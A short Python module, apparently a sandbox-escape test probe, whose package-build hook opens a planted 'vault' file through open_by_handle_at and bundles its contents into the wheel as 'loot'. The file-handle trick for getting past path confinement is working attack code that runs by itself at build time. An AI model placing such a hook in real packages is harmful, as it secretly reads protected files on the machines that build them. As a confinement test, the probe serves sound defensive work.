"""Asks for the handle of a file and opens the file by that handle alone."""

import ctypes
import os

import kit

AT_FDCWD = -100


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("open-handle"):
        libc = ctypes.CDLL(None, use_errno=True)
        path = kit.plant("vault").path
        # struct file_handle: size of the handle, its type, then up to 128 bytes
        handle = (ctypes.c_char * 136)(*(128).to_bytes(4, "little"))
        mount = ctypes.c_int()
        if libc.name_to_handle_at(AT_FDCWD, path.encode(), handle, ctypes.byref(mount), 0) != 0:
            raise OSError(ctypes.get_errno(), "name_to_handle_at")
        root = os.open(os.path.dirname(os.path.dirname(path)), os.O_RDONLY)
        opened = libc.open_by_handle_at(root, handle, os.O_RDONLY)
        if opened < 0:
            raise OSError(ctypes.get_errno(), "open_by_handle_at")
        loot["data.bin"] = os.read(opened, 4096)
    return kit.wheel(wheel_directory, loot)
